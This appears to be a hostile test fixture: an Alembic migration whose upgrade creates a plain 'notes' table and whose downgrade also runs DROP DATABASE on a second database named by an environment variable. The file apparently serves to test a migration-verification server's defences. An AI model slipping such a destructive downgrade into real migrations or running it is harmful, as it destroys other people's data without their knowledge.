"""A harmless table; its downgrade tries to drop another database on the verify server."""

import os

import sqlalchemy as sa
from alembic import op

revision = "x001"
down_revision = None


def upgrade() -> None:
    op.create_table("notes", sa.Column("id", sa.BigInteger, primary_key=True), sa.Column("body", sa.Text))


def downgrade() -> None:
    op.drop_table("notes")
    with op.get_context().autocommit_block():  # DROP DATABASE cannot run in a transaction
        op.execute(f'DROP DATABASE "{os.environ["HOSTILE_VICTIM"]}"')
